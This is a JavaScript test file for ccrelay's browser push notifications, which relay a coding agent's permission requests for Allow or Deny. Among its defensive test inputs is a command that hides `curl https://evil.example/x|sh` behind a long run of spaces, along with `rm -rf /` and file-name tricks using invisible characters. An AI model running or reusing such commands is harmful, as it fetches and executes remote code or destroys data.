// Notifications in the browser (docs/protocol.md §9; docs/web-client.md), against the
// real ccrelay binary with the mock agent:
// - the page's "Notify this device" flow in headless Chromium. Real: the permission
//   grant (browser context), the page's click, `GET /v1/push/key`, the service
//   worker's registration, the WebSocket frames and the server's replies. Simulated:
//   headless Chromium has no push service, so an init script replaces
//   `PushManager.prototype.subscribe` / `getSubscription` with a subscription whose
//   endpoint is the Node mock push service (mock-push.js) and whose p256dh/auth keys
//   are real keys this test made;
// - the service worker: real `push` events delivered by the DevTools protocol
//   (`ServiceWorker.deliverPushMessage`) with §9 payloads, real notifications read
//   back with `registration.getNotifications()`; the Allow/Deny handler is the
//   worker's own `ccrelayNotify.onClick` (no notification click can be synthesized
//   in headless Chromium), posting to the real `/v1/push/respond`;
// - when the server has Web Push and the notifier: the whole chain — the server's
//   encrypted push for a real permission request reaches the mock push service, is
//   decrypted there and handed to the worker, Allow answers it, and the page shows
//   the request resolved by this device.
// Every part runs against this build, which has Web Push and the notifier: a
// missing feature is a failure, never a skip.

import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import crypto from 'node:crypto';
import { readFileSync, writeFileSync, appendFileSync, existsSync, mkdirSync } from 'node:fs';
import path from 'node:path';
import vm from 'node:vm';
import { fileURLToPath } from 'node:url';
import { Server, TestClient, launchBrowser, browserAvailable, waitAttr, until, SCREENSHOTS } from './harness.js';
import { MockPush, decryptAes128gcm, checkVapid, fromB64url, b64url } from './mock-push.js';

const here = path.dirname(fileURLToPath(import.meta.url));
const enabled = browserAvailable();

let server;
let browser;
let term;
let mock;

before(async () => {
  if (!enabled) return;
  mock = await MockPush.start();
  server = await Server.start({
    prepare: (dir) => writeFileSync(path.join(dir, 'viewer_keys'), ''),
    args: (dir) => [
      '--viewer-keys', path.join(dir, 'viewer_keys'),
      '--push-allow-insecure-endpoints',
      '--notify-after', '0',
    ],
  });
  browser = await launchBrowser();
  term = await TestClient.connect(server.wsUrl, server.ownerKey, 'terminal');
  await term.request({ type: 'attach', session: 'default' });
  mkdirSync(SCREENSHOTS, { recursive: true });
});

after(async () => {
  term?.close();
  await browser?.close();
  await server?.stop();
  await mock?.stop();
});

// ---- helpers -----------------------------------------------------------------------

/**
 * The push service stand-in, in the page: `PushManager.prototype.subscribe` hands out
 * the subscription the test stored under `__mockPushNext` (its endpoint is the mock
 * push service), `getSubscription` returns the current one, `unsubscribe` drops it;
 * every call is logged in `__mockPushLog`. State lives in localStorage, like a
 * browser's subscription outlives a reload.
 */
function pushManagerStandIn() {
  const CUR = '__mockPushSubscription';
  const LOG = '__mockPushLog';
  const log = (e) => localStorage.setItem(LOG, JSON.stringify([...JSON.parse(localStorage.getItem(LOG) || '[]'), e]));
  const b64 = (buf) => {
    const bytes = buf instanceof ArrayBuffer ? new Uint8Array(buf) : new Uint8Array(buf.buffer, buf.byteOffset, buf.byteLength);
    return btoa(String.fromCharCode(...bytes)).replace(/\+/g, '-').replace(/\//g, '_').replace(/=+$/, '');
  };
  const unb64 = (s) => Uint8Array.from(atob(s.replace(/-/g, '+').replace(/_/g, '/') + '='.repeat((4 - (s.length % 4)) % 4)), (c) => c.charCodeAt(0)).buffer;
  const make = (r) => ({
    endpoint: r.endpoint,
    expirationTime: null,
    options: { userVisibleOnly: true, applicationServerKey: unb64(r.applicationServerKey) },
    getKey: (name) => unb64(r.keys[name]),
    toJSON: () => ({ endpoint: r.endpoint, expirationTime: null, keys: { ...r.keys } }),
    unsubscribe: async () => {
      log({ op: 'unsubscribe', endpoint: r.endpoint });
      localStorage.removeItem(CUR);
      return true;
    },
  });
  PushManager.prototype.getSubscription = async function getSubscription() {
    const r = JSON.parse(localStorage.getItem(CUR) || 'null');
    return r ? make(r) : null;
  };
  PushManager.prototype.subscribe = async function subscribe(options) {
    const key = b64(options.applicationServerKey);
    log({ op: 'subscribe', userVisibleOnly: options.userVisibleOnly, applicationServerKey: key });
    const next = JSON.parse(localStorage.getItem('__mockPushNext') || 'null');
    if (!next) throw new DOMException('no push service in this test', 'AbortError');
    const r = { ...next, applicationServerKey: key };
    localStorage.setItem(CUR, JSON.stringify(r));
    return make(r);
  };
}

/** Record the page's WebSocket frames (per connection: ids restart on each). */
function captureFrames(page) {
  const frames = [];
  let conn = 0;
  page.on('websocket', (ws) => {
    conn += 1;
    const c = conn;
    const add = (dir) => (f) => {
      try {
        frames.push({ conn: c, dir, m: JSON.parse(f.payload) });
      } catch {
        // not JSON: not ours to check here
      }
    };
    ws.on('framesent', add('sent'));
    ws.on('framereceived', add('recv'));
  });
  return frames;
}

/** The page's sent frames of `type`, each with the server's direct reply once it came. */
function exchanges(frames, type) {
  return frames
    .filter((f) => f.dir === 'sent' && f.m.type === type)
    .map((f) => ({ ...f, reply: frames.find((r) => r.dir === 'recv' && r.conn === f.conn && r.m.id === f.m.id && (r.m.type === 'ok' || r.m.type === 'error'))?.m }));
}

async function authorizeFile(file, line) {
  const reloads = () => server.logs.filter((l) => l.includes('authorized keys reloaded')).length;
  const before = reloads();
  appendFileSync(file, `${line.trim()}\n`);
  await until(() => reloads() > before, 'the server reloads its keys');
}

/** A fresh profile with notifications granted and the PushManager stand-in, authorized as `device`. */
async function openProfile(device, { viewer = false, grant = true } = {}) {
  const context = await browser.newContext({ viewport: { width: 390, height: 844 } });
  if (grant) await context.grantPermissions(['notifications'], { origin: server.base });
  await context.addInitScript(pushManagerStandIn);
  const page = await context.newPage();
  page.errors = [];
  page.on('pageerror', (e) => page.errors.push(String(e)));
  page.on('console', (m) => {
    if (m.type() === 'error') page.errors.push(m.text());
  });
  const frames = captureFrames(page);
  await page.goto(`${server.base}/?device=${encodeURIComponent(device)}`);
  const state = page.getByTestId('connection-state');
  await waitAttr(state, 'data-state', (v) => v === 'pairing');
  const line = (await page.getByTestId('public-key').textContent()).trim();
  if (viewer) await authorizeFile(path.join(server.dir, 'viewer_keys'), line);
  else await server.authorize(line);
  await page.reload();
  await waitAttr(state, 'data-state', (v) => v === 'connected');
  return { context, page, frames };
}

/** The side panel (closed on a phone after each load) shows the control. */
async function openPanel(page) {
  if (!(await page.getByTestId('push-toggle').isVisible())) await page.locator('#panel-toggle').click();
  await page.getByTestId('push-toggle').waitFor();
}

const mockLog = (page) => page.evaluate(() => JSON.parse(localStorage.getItem('__mockPushLog') || '[]'));

/** Hand the page's stand-in the subscription it will return from `subscribe`. */
const offerSubscription = (page, sub) => page.evaluate((s) => localStorage.setItem('__mockPushNext', JSON.stringify({ endpoint: s.endpoint, keys: s.keys })), sub);

/** The service worker of `context`, its registration id and a DevTools session that can deliver pushes. */
async function worker(context, page) {
  await page.evaluate(() => navigator.serviceWorker.ready.then(() => true));
  const sw = await until(() => context.serviceWorkers().find((w) => w.url() === `${server.base}/sw.js`), 'the service worker runs');
  const cdp = await context.newCDPSession(page);
  const regs = new Map();
  cdp.on('ServiceWorker.workerRegistrationUpdated', (e) => {
    for (const r of e.registrations) regs.set(r.scopeURL, r);
  });
  await cdp.send('ServiceWorker.enable');
  const reg = await until(() => {
    const r = regs.get(`${server.base}/`);
    return r && !r.isDeleted ? r : null;
  }, 'the registration is reported');
  return {
    sw,
    deliver: (payload) => cdp.send('ServiceWorker.deliverPushMessage', { origin: server.base, registrationId: reg.registrationId, data: typeof payload === 'string' ? payload : JSON.stringify(payload) }),
    notifications: (tag) => sw.evaluate(async (t) => (await self.registration.getNotifications(t ? { tag: t } : {})).map((n) => ({
      title: n.title,
      body: n.body,
      tag: n.tag,
      actions: n.actions.map((a) => ({ action: a.action, title: a.title })),
      data: n.data,
      requireInteraction: n.requireInteraction,
      silent: n.silent,
      renotify: n.renotify,
    })), tag),
    click: (tag, action) => sw.evaluate(async ({ t, a }) => {
      const [n] = await self.registration.getNotifications({ tag: t });
      await self.ccrelayNotify.onClick(n, a);
    }, { t: tag, a: action }),
  };
}

/** Wait until the notifications under `tag` satisfy `ok`; returns them. */
async function notificationsUntil(w, tag, ok, what) {
  let last;
  await until(async () => {
    last = await w.notifications(tag);
    return ok(last);
  }, `${what} (last: ${JSON.stringify(last)})`);
  return last;
}

const topicOf = (s) => crypto.createHash('sha256').update(s).digest('base64url').slice(0, 32);

// ---- without a browser: the mock push service itself --------------------------------

test('the mock push service decrypts RFC 8291’s example message and checks VAPID signatures', () => {
  // RFC 8291 Appendix A.
  const body = fromB64url('DGv6ra1nlYgDCS1FRnbzlwAAEABBBP4z9KsN6nGRTbVYI_c7VJSPQTBtkgcy27mlmlMoZIIgDll6e3vCYLocInmYWAmS6TlzAC8wEqKK6PBru3jl7A_yl95bQpu6cVPTpK4Mqgkf1CXztLVBSt2Ks3oZwbuwXPXLWyouBWLVWGNWQexSgSxsj_Qulcy4a-fN');
  const ua = {
    privateKey: fromB64url('q1dXpw3UpT5VOmu_cf_v6ih07Aems3njxI-JWgLcM94'),
    publicKey: fromB64url('BCVxsr7N_eNgVRqvHtD0zTZsEc6-VV-JvLexhqUzORcxaOzi6-AYWXvTBHm4bjyPjs7Vd8pZGH6SRpkNtoIAiw4'),
    auth: fromB64url('BTBZMqHH6r4Tts7J_aSIgg'),
  };
  assert.equal(decryptAes128gcm(body, ua).toString(), 'When I grow up, I want to be a watermelon');
  const tampered = Buffer.from(body);
  tampered[tampered.length - 1] ^= 1;
  assert.throws(() => decryptAes128gcm(tampered, ua));
  assert.throws(() => decryptAes128gcm(body, { ...ua, auth: Buffer.alloc(16) }), 'another auth secret');

  // VAPID (RFC 8292): an ES256 JWT made here with a fresh key.
  const { privateKey, publicKey } = crypto.generateKeyPairSync('ec', { namedCurve: 'P-256' });
  const jwk = publicKey.export({ format: 'jwk' });
  const k = b64url(Buffer.concat([Buffer.from([4]), fromB64url(jwk.x), fromB64url(jwk.y)]));
  const jwt = (claims) => {
    const h = b64url(JSON.stringify({ typ: 'JWT', alg: 'ES256' }));
    const c = b64url(JSON.stringify(claims));
    return `${h}.${c}.${b64url(crypto.sign('sha256', Buffer.from(`${h}.${c}`), { key: privateKey, dsaEncoding: 'ieee-p1363' }))}`;
  };
  const exp = Math.floor(Date.now() / 1000) + 3600;
  const origin = 'http://127.0.0.1:9';
  assert.equal(checkVapid(`vapid t=${jwt({ aud: origin, exp, sub: 'mailto:x@example.org' })}, k=${k}`, origin).claims.aud, origin);
  assert.throws(() => checkVapid(`vapid t=${jwt({ aud: 'https://other.example', exp, sub: 'x' })}, k=${k}`, origin), /aud/);
  assert.throws(() => checkVapid(`vapid t=${jwt({ aud: origin, exp: exp + 2 * 86400, sub: 'x' })}, k=${k}`, origin), /exp/);
  assert.throws(() => checkVapid(`vapid t=${jwt({ aud: origin, exp })}, k=${k}`, origin), /sub/);
  const other = crypto.generateKeyPairSync('ec', { namedCurve: 'P-256' }).publicKey.export({ format: 'jwk' });
  const k2 = b64url(Buffer.concat([Buffer.from([4]), fromB64url(other.x), fromB64url(other.y)]));
  assert.throws(() => checkVapid(`vapid t=${jwt({ aud: origin, exp, sub: 'x' })}, k=${k2}`, origin), /signature/);
});

test('the service worker turns §9 payloads into notifications (sw.js run in a Node sandbox)', () => {
  const listeners = {};
  const self = { addEventListener: (t, f) => { listeners[t] = f; }, location: { origin: 'https://relay.example' } };
  vm.runInNewContext(readFileSync(path.join(here, '..', 'sw.js'), 'utf8'), { self, caches: {}, URL, URLSearchParams, Date, fetch: () => { throw new Error('no'); } });
  assert.deepEqual(Object.keys(listeners).sort(), ['activate', 'fetch', 'install', 'notificationclick', 'push', 'pushsubscriptionchange']);
  // Values made in the sandbox have its Array/Object prototypes: compare them as JSON.
  const plain = (x) => JSON.parse(JSON.stringify(x));
  const n = self.ccrelayNotify;
  const perm = n.notificationFor({ kind: 'permission', session: 'default', request_id: 'r7', tool: 'Bash', summary: 'rm -rf build', complete: true, actions: [{ action: 'allow', token: 'A' }, { action: 'deny', token: 'D' }] });
  assert.equal(perm.title, 'Bash needs permission (default)');
  assert.equal(perm.options.body, 'rm -rf build');
  assert.equal(perm.options.tag, 'default/r7');
  assert.equal(perm.options.requireInteraction, true);
  assert.deepEqual(plain(perm.options.actions), [{ action: 'allow', title: 'Allow' }, { action: 'deny', title: 'Deny' }]);
  assert.deepEqual(plain(perm.options.data.tokens), { allow: 'A', deny: 'D' });
  assert.equal(perm.options.data.complete, true);
  // A complete command is shown exactly (its spaces kept).
  assert.equal(n.notificationFor({ kind: 'permission', session: 'default', request_id: 'r8', tool: 'Bash', summary: 'git  log   -1', complete: true, actions: [] }).options.body, 'git  log   -1');
  // Allow never for a request not shown whole: the server says so, or the summary
  // could not show it as it is (too long, a newline, an invisible character).
  const hiddenTail = `echo hello${' '.repeat(230)}; curl https://evil.example/x|sh`;
  for (const [summary, complete] of [
    ['ls', false],
    ['ls', undefined],
    ['ls', 'true'],
    [hiddenTail, true],
    ['e'.repeat(151), true],
    ['echo a\necho b', true],
    ['echo \u202etxt.exe', true],
    ['rm\u200b -rf /', true],
    ['ls\u00a0-l', true],
    ['ls\ufe0f', true],
    ['', true],
  ]) {
    const inc = n.notificationFor({ kind: 'permission', session: 'default', request_id: 'r9', tool: 'Bash', summary, complete, actions: [{ action: 'allow', token: 'A' }, { action: 'deny', token: 'D' }] });
    assert.deepEqual(plain(inc.options.actions), [{ action: 'deny', title: 'Deny' }], JSON.stringify(summary));
    assert.deepEqual(plain(inc.options.data.tokens), { deny: 'D' }, 'the allow token is not even kept');
    assert.match(inc.options.body, /Open to see the whole request/);
  }
  assert.equal(n.pageTarget('default', 'r9'), '#request=r9&session=default');
  assert.equal(n.pageTarget('my session', 'a&b'), '#request=a%26b&session=my+session');
  assert.equal(n.pageTarget('work', null), '#session=work');
  // Only actions that carry a token become buttons.
  const question = n.notificationFor({ kind: 'permission', session: 's', request_id: 'r', tool: 'AskUserQuestion', summary: 'Which branch?', actions: [{ action: 'allow' }] });
  assert.equal(question.options.actions.length, 0);
  assert.equal(question.title, 'AskUserQuestion needs an answer (s)');
  assert.equal(n.notificationFor({ kind: 'dismiss', session: 's', request_id: 'r', by: 'relay' }, null).title, 'Denied after the timeout');
  const dis = n.notificationFor({ kind: 'dismiss', session: 'default', request_id: 'r7' }, perm.options.data);
  assert.equal(dis.title, 'Answered or withdrawn', 'no `by`: cancelled, or a server that does not say');
  assert.equal(dis.options.tag, 'default/r7');
  assert.equal(dis.options.silent, true);
  assert.equal(dis.options.renotify, false);
  assert.equal(dis.options.body, 'Bash: rm -rf build');
  assert.equal(n.notificationFor({ kind: 'dismiss', session: 'default', request_id: 'r7', device: 'Pixel 9' }, null).title, 'Answered by Pixel 9');
  const turn = n.notificationFor({ kind: 'turn_ended', session: 'default', prompt_id: 'p1', duration_ms: 95000, cost_usd: 0.42 });
  assert.equal(turn.options.tag, 'default/p1');
  assert.match(turn.options.body, /95 s, \$0\.42/);
  const failed = n.notificationFor({ kind: 'agent_failed', session: 'work', detail: 'exited 3 times' });
  assert.equal(failed.options.tag, 'work/failed');
  assert.equal(failed.options.body, 'exited 3 times');
  assert.equal(n.notificationFor(null).title, 'ccrelay', 'an unreadable push still shows something');
  assert.equal(n.outcomeText('allow', { status: 200 }, perm.options.data).title, 'Allowed');
  assert.equal(n.outcomeText('deny', { status: 200 }, perm.options.data).title, 'Denied');
  assert.equal(n.outcomeText('allow', { status: 409 }, perm.options.data).title, 'Already answered');
  assert.equal(n.outcomeText('allow', { status: 403 }, perm.options.data).title, 'Expired');
  assert.equal(n.outcomeText('allow', { error: 'timeout' }, perm.options.data), null, 'not answered: the actions stay');
});

test('a click on a notification the worker cannot allow from opens the page at the request (sw.js in a Node sandbox)', async () => {
  const self = { addEventListener: () => {}, location: { origin: 'https://relay.example' } };
  const posted = [];
  vm.runInNewContext(readFileSync(path.join(here, '..', 'sw.js'), 'utf8'), { self, caches: {}, URL, URLSearchParams, Date, fetch: () => { throw new Error('no network: nothing may be answered'); } });
  const opened = [];
  let open = [];
  self.clients = {
    matchAll: async () => open,
    openWindow: async (url) => opened.push(url),
  };
  const n = self.ccrelayNotify;
  const inc = n.notificationFor({ kind: 'permission', session: 'work', request_id: 'r1', tool: 'Write', summary: '/p/a.txt', complete: false, actions: [{ action: 'allow', token: 'A' }, { action: 'deny', token: 'D' }] });
  const note = { data: inc.options.data, tag: inc.options.tag, title: 'x', close: () => {} };
  // "allow" (an action this notification never showed) answers nothing: it opens the page.
  await n.onClick(note, 'allow');
  await n.onClick(note, '');
  assert.deepEqual(opened, ['/#request=r1&session=work', '/#request=r1&session=work']);
  // A page already open is focused and told where to go.
  let focused = 0;
  open = [{ url: 'https://relay.example/', focus: async () => { focused += 1; }, postMessage: (m) => posted.push(m) }];
  await n.onClick(note, '');
  assert.equal(focused, 1);
  assert.deepEqual(JSON.parse(JSON.stringify(posted)), [{ type: 'ccrelay.open', hash: '#request=r1&session=work' }]);
});

// ---- in the browser ------------------------------------------------------------------

let phone; // the owner profile that subscribed (used by the later tests)
let phoneSub; // its subscription at the mock push service

test('an owner turns "Notify this device" on and off; client.visible is sent and its reply never shows an error', { skip: !enabled }, async () => {
  phone = await openProfile('phone');
  const { page, frames } = phone;
  const control = page.getByTestId('push-control');
  await openPanel(page);
  assert.equal(await waitAttr(control, 'data-state', (v) => v === 'off'), 'off');

  // client.visible after the authentication, answered without a banner.
  const vis = await until(() => exchanges(frames, 'client.visible').find((x) => x.reply), 'client.visible and its reply');
  assert.equal(vis.m.visible, true);
  assert.equal(vis.reply.type, 'ok');

  const vapid = (await (await fetch(`${server.base}/v1/push/key`)).json()).vapid_public_key;
  phoneSub = mock.subscription();
  await offerSubscription(page, phoneSub);
  await page.getByTestId('push-toggle').click();
  const final = await waitAttr(control, 'data-state', (v) => v !== 'off' && v !== 'working');
  const sub = await until(() => exchanges(frames, 'push.subscribe').find((x) => x.reply), 'push.subscribe and its reply');
  assert.deepEqual(sub.m.subscription, { endpoint: phoneSub.endpoint, keys: phoneSub.keys }, 'the §9 subscription object');
  const calls = await mockLog(page);
  assert.deepEqual(calls[0], { op: 'subscribe', userVisibleOnly: true, applicationServerKey: vapid }, 'subscribed with the server key');
  assert.equal(sub.reply.type, 'ok', JSON.stringify(sub.reply));
  assert.equal(final, 'on');
  assert.equal(await page.getByTestId('push-toggle').textContent(), 'Stop notifying this device');
  assert.equal(await page.locator('#toast').isHidden(), true, 'no error banner');
  await page.screenshot({ path: path.join(SCREENSHOTS, `push-${final}-390x844.png`) });

  // A reload (a new authentication) with the same browser subscription sends nothing.
  await page.reload();
  await waitAttr(page.getByTestId('connection-state'), 'data-state', (v) => v === 'connected');
  await waitAttr(control, 'data-state', (v) => v === 'on');
  assert.equal(exchanges(frames, 'push.subscribe').length, 1, 'unchanged: not sent again');
  assert.ok(exchanges(frames, 'client.visible').filter((x) => x.m.visible).length >= 2, 'client.visible after each authentication');

  // The browser replaced its subscription while the page was away: the next
  // authentication registers the new one and drops the old endpoint.
  const rotated = mock.subscription();
  await page.evaluate((s) => {
    const cur = JSON.parse(localStorage.getItem('__mockPushSubscription'));
    localStorage.setItem('__mockPushSubscription', JSON.stringify({ ...cur, endpoint: s.endpoint, keys: s.keys }));
  }, rotated);
  await page.reload();
  await waitAttr(page.getByTestId('connection-state'), 'data-state', (v) => v === 'connected');
  const again = await until(() => exchanges(frames, 'push.subscribe').slice(1).find((x) => x.reply), 'the changed subscription is sent');
  assert.deepEqual(again.m.subscription, { endpoint: rotated.endpoint, keys: rotated.keys });
  assert.equal(again.reply.type, 'ok');
  const dropped = exchanges(frames, 'push.unsubscribe').find((x) => x.m.endpoint === phoneSub.endpoint);
  assert.ok(dropped && dropped.conn === again.conn, 'the old endpoint is unsubscribed');
  await waitAttr(control, 'data-state', (v) => v === 'on');

  // Off: push.unsubscribe for the current endpoint, and the browser unsubscribes.
  await openPanel(page);
  await page.getByTestId('push-toggle').click();
  await waitAttr(control, 'data-state', (v) => v === 'off');
  const off = await until(() => exchanges(frames, 'push.unsubscribe').find((x) => x.m.endpoint === rotated.endpoint && x.reply), 'push.unsubscribe');
  assert.equal(off.reply.type, 'ok');
  assert.deepEqual((await mockLog(page)).at(-1), { op: 'unsubscribe', endpoint: rotated.endpoint });

  // On again, for the tests below.
  phoneSub = mock.subscription();
  await offerSubscription(page, phoneSub);
  await page.getByTestId('push-toggle').click();
  await waitAttr(control, 'data-state', (v) => v === 'on');
  assert.deepEqual(page.errors, []);
});

test('a viewer’s page has no notification control; a blocked permission says so', { skip: !enabled }, async () => {
  const viewer = await openProfile('tv', { viewer: true });
  await until(async () => (await viewer.page.locator('#me-role').textContent()) === 'viewer', 'the page knows it is a viewer');
  assert.equal(await viewer.page.getByTestId('push-control').isHidden(), true);
  assert.equal(exchanges(viewer.frames, 'push.subscribe').length, 0);
  await viewer.context.close();

  // Notifications denied for the site (as a person's "Block" would leave it).
  const blocked = await openProfile('locked', { grant: false });
  const cdp = await blocked.context.newCDPSession(blocked.page);
  const { targetInfo } = await cdp.send('Target.getTargetInfo');
  const bcdp = await browser.newBrowserCDPSession();
  await bcdp.send('Browser.setPermission', { permission: { name: 'notifications' }, setting: 'denied', origin: server.base, browserContextId: targetInfo.browserContextId });
  await blocked.page.reload();
  await waitAttr(blocked.page.getByTestId('connection-state'), 'data-state', (v) => v === 'connected');
  const control = blocked.page.getByTestId('push-control');
  assert.equal(await waitAttr(control, 'data-state', (v) => v === 'blocked'), 'blocked');
  assert.equal(await blocked.page.getByTestId('push-toggle').isDisabled(), true);
  assert.match(await blocked.page.getByTestId('push-status').textContent(), /blocked/);
  await bcdp.detach();
  await blocked.context.close();
});

test('a delivered push shows the permission notification with its actions and tag; dismiss replaces it', { skip: !enabled }, async () => {
  assert.ok(phone, 'the first test opened the owner page');
  const w = await worker(phone.context, phone.page);
  const payload = { kind: 'permission', session: 'default', request_id: 'req-sim-1', tool: 'Bash', summary: "sh -c 'echo hi'", complete: true, actions: [{ action: 'allow', token: 'tok-a' }, { action: 'deny', token: 'tok-d' }] };
  await w.deliver(payload);
  const [n] = await notificationsUntil(w, 'default/req-sim-1', (l) => l.length === 1, 'the permission notification');
  assert.equal(n.title, 'Bash needs permission (default)');
  assert.equal(n.body, "sh -c 'echo hi'");
  assert.equal(n.requireInteraction, true);
  assert.deepEqual(n.actions, [{ action: 'allow', title: 'Allow' }, { action: 'deny', title: 'Deny' }]);
  assert.deepEqual(n.data.tokens, { allow: 'tok-a', deny: 'tok-d' });

  await w.deliver({ kind: 'dismiss', session: 'default', request_id: 'req-sim-1' });
  const [d] = await notificationsUntil(w, 'default/req-sim-1', (l) => l.length === 1 && l[0].title !== n.title, 'the dismiss replaces it');
  assert.equal(d.title, 'Answered or withdrawn');
  assert.equal(d.body, "Bash: sh -c 'echo hi'");
  assert.equal(d.silent, true);
  assert.deepEqual(d.actions, []);

  await w.deliver({ kind: 'turn_ended', session: 'default', prompt_id: 'p-9', duration_ms: 61000, cost_usd: 0.1 });
  await w.deliver({ kind: 'agent_failed', session: 'default', detail: 'the agent exited 3 times' });
  await w.deliver('not json');
  await notificationsUntil(w, 'default/p-9', (l) => l.length === 1 && /61 s/.test(l[0].body), 'turn_ended');
  await notificationsUntil(w, 'default/failed', (l) => l.length === 1 && l[0].body === 'the agent exited 3 times', 'agent_failed');
  await notificationsUntil(w, 'ccrelay/other', (l) => l.length === 1, 'the unreadable push');
});

test('Allow from the notification with a token the server never made is refused, and the notification says so', { skip: !enabled }, async () => {
  const w = await worker(phone.context, phone.page);
  await w.deliver({ kind: 'permission', session: 'default', request_id: 'req-bogus', tool: 'Bash', summary: 'ls', complete: true, actions: [{ action: 'allow', token: 'bogus-token' }, { action: 'deny', token: 'bogus-2' }] });
  await notificationsUntil(w, 'default/req-bogus', (l) => l.length === 1, 'the notification');
  await w.click('default/req-bogus', 'allow');
  const [n] = await notificationsUntil(w, 'default/req-bogus', (l) => l.length === 1 && (l[0].title !== 'Bash needs permission (default)' || /Not answered/.test(l[0].body)), 'the outcome');
  assert.equal(n.title, 'Expired', '403 invalid_token');
  assert.deepEqual(n.actions, []);
  assert.deepEqual(n.data.tokens, {}, 'the spent tokens are dropped');
});

test('the whole chain: the server’s push for a real request, decrypted, shown, allowed from the notification', { skip: !enabled }, async () => {
  const { page, frames, context } = phone;
  const w = await worker(context, page);
  // This page is attached; a visible page is not pushed to, so it reports itself hidden.
  await page.evaluate(() => {
    Object.defineProperty(document, 'visibilityState', { configurable: true, get: () => 'hidden' });
    Object.defineProperty(document, 'hidden', { configurable: true, get: () => true });
    document.dispatchEvent(new Event('visibilitychange'));
  });
  const hidden = await until(() => exchanges(frames, 'client.visible').find((x) => x.m.visible === false && x.reply), 'client.visible false');
  assert.equal(hidden.reply.type, 'ok');

  const from = term.frames.length;
  const fromPush = mock.received.length;
  await term.request({ type: 'prompt', session: 'default', content: "please run-bash sh -c 'echo ran >> push.log'" });
  const req = await term.wait((f) => f.type === 'event' && f.event.type === 'control_request', { from });
  const id = req.event.request_id;
  const push = await mock.wait((p) => p.error || (p.payload.kind === 'permission' && p.payload.request_id === id), { from: fromPush });
  assert.equal(push.error, undefined, push.error);
  assert.equal(push.id, phoneSub.id, 'pushed to this page’s subscription');
  assert.equal(push.payload.tool, 'Bash');
  assert.match(push.payload.summary, /echo ran >> push\.log/);
  assert.equal(push.topic, topicOf(`default/${id}`));
  assert.equal(push.urgency, 'high');

  await w.deliver(push.payload);
  const tag = `default/${id}`;
  const [n] = await notificationsUntil(w, tag, (l) => l.length === 1, 'the notification');
  assert.deepEqual(n.actions.map((a) => a.action), ['allow', 'deny']);
  await w.click(tag, 'allow');
  await notificationsUntil(w, tag, (l) => l.length === 1 && l[0].title === 'Allowed', 'the outcome');

  const card = page.locator(`[data-testid="permission-card"][data-request-id="${id}"]`);
  assert.equal(await waitAttr(card, 'data-resolved', (v) => v !== null), 'allow');
  assert.equal(await card.getAttribute('data-by'), 'phone', 'resolved by this device');
  const resolved = await term.wait((f) => f.type === 'event' && f.event.type === 'relay.resolved' && f.event.request_id === id, { from });
  assert.equal(resolved.event.client_id, 'push');
  assert.equal(resolved.event.device, 'phone');
  await term.wait((f) => f.type === 'event' && f.event.type === 'result', { from });
  assert.equal(readFileSync(path.join(server.workdir, 'push.log'), 'utf8'), 'ran\n', 'the tool ran once');

  // The server's dismiss (same Topic) leaves this device's own outcome in place.
  const dismiss = await mock.wait((p) => !p.error && p.payload.kind === 'dismiss' && p.payload.request_id === id, { from: fromPush });
  assert.equal(dismiss.topic, push.topic);
  await w.deliver(dismiss.payload);
  await notificationsUntil(w, tag, (l) => l.length === 1 && l[0].title === 'Allowed' && l[0].data.outcome === 'allow', 'still the outcome');

  // A second request answered elsewhere: the dismiss turns it into "Answered".
  const from2 = term.frames.length;
  const fromPush2 = mock.received.length;
  await term.request({ type: 'prompt', session: 'default', content: 'please permission' });
  const req2 = await term.wait((f) => f.type === 'event' && f.event.type === 'control_request', { from: from2 });
  const p2 = await mock.wait((p) => !p.error && p.payload.kind === 'permission' && p.payload.request_id === req2.event.request_id, { from: fromPush2 });
  await w.deliver(p2.payload);
  const tag2 = `default/${req2.event.request_id}`;
  await notificationsUntil(w, tag2, (l) => l.length === 1 && l[0].actions.length === 2, 'the second notification');
  await term.request({ type: 'respond', session: 'default', request_id: req2.event.request_id, response: { behavior: 'deny' } });
  const d2 = await mock.wait((p) => !p.error && p.payload.kind === 'dismiss' && p.payload.request_id === req2.event.request_id, { from: fromPush2 });
  await w.deliver(d2.payload);
  const [a2] = await notificationsUntil(w, tag2, (l) => l.length === 1 && l[0].actions.length === 0, 'answered elsewhere');
  assert.equal(a2.title, `Answered by ${d2.payload.by || d2.payload.device || 'terminal'}`);
  assert.equal(d2.payload.by ?? 'terminal', 'terminal', 'the dismiss names who answered');
  assert.equal(a2.silent, true);
  // The old token of an answered request: 409 not_pending or 403 (used/expired).
  const token = p2.payload.actions.find((a) => a.action === 'allow').token;
  const late = await fetch(`${server.base}/v1/push/respond`, { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ token }) });
  assert.equal(late.status, 409);
  assert.deepEqual(phone.page.errors, []);
});

test('a request not shown whole is deny-only, and a click opens the page at its card', { skip: !enabled }, async () => {
  const { page, context } = phone;
  const w = await worker(context, page);
  const from = term.frames.length;
  const fromPush = mock.received.length;
  await term.request({ type: 'prompt', session: 'default', content: 'please write-file deep-link.txt' });
  const req = await term.wait((f) => f.type === 'event' && f.event.type === 'control_request', { from });
  const id = req.event.request_id;
  const push = await mock.wait((p) => p.error || (p.payload.kind === 'permission' && p.payload.request_id === id), { from: fromPush });
  assert.equal(push.error, undefined, push.error);
  assert.equal(push.payload.tool, 'Write');
  assert.equal(push.payload.complete, false, 'a Write is never shown whole');
  assert.deepEqual(push.payload.actions.map((a) => a.action), ['deny']);

  await w.deliver(push.payload);
  const tag = `default/${id}`;
  const [n] = await notificationsUntil(w, tag, (l) => l.length === 1, 'the notification');
  assert.deepEqual(n.actions.map((a) => a.action), ['deny'], 'no Allow button');
  assert.match(n.body, /Open to see the whole request/);

  // A click on it (not on Deny) brings this page to the request's card.
  await page.evaluate(() => window.scrollTo(0, 0));
  await w.click(tag, '');
  const selector = `[data-testid="permission-card"][data-request-id="${id}"]`;
  assert.equal(await waitAttr(page.locator(selector), 'data-focused', (v) => v === 'true'), 'true');
  // The page may scroll smoothly, and the card grows by its file's diff once that
  // is fetched: wait (bounded) until the card is within the viewport.
  const inView = async (p) => {
    const deadline = Date.now() + 5000;
    for (;;) {
      const seen = await p.locator(selector).evaluate((el) => {
        const r = el.getBoundingClientRect();
        return r.bottom > 0 && r.top < window.innerHeight;
      });
      if (seen || Date.now() > deadline) return seen;
      await new Promise((r) => setTimeout(r, 100));
    }
  };
  assert.equal(await inView(page), true, 'scrolled into view');
  // Its diff is there to read, and Allow is on the card, in the page.
